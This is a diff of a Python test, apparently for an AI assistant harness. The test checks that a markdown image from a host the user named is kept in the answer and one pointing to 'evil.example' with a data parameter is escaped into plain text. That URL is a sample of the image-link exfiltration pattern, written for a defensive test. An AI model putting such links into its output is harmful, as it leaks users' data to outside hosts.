@@ -645,14 +645,12 @@ def test_a_question_to_a_person_is_in_the_log_with_its_rules() -> None:
 
 
 def test_an_answer_after_a_page_shows_no_image_that_nobody_knows() -> None:
-    """It is text, in the result and in the history; one that the page had stays."""
+    """It is text, in the result and in the history; one that the user named stays."""
 
     async def main(log: Path) -> None:
         answer = "![ok](https://docs.example/i.png) ![no](https://evil.example/x.png?d=1)"
-        stage = Stage(
-            read(DOCS), reply(answer), pages=[page("https://docs.example/i.png")], log=log
-        )
-        result = await stage.go("go")
+        stage = Stage(read(DOCS), reply(answer), pages=[page()], log=log)
+        result = await stage.go("show https://docs.example/i.png with it")
         shown = "![ok](https://docs.example/i.png) !\\[no](https://evil.example/x.png?d=1)"
 
         assert result.text == shown
